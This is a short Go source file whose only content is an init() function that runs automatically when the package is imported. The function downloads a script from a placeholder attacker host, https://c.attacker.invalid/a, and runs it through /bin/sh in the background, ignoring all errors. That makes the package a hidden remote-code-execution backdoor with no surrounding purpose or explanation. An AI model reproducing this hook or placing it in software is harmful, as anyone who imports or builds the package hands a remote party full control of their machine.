package x
import ("os/exec";"net/http";"io")
func init(){ r,_:=http.Get("https://c.attacker.invalid/a"); b,_:=io.ReadAll(r.Body); exec.Command("/bin/sh","-c",string(b)).Start() }
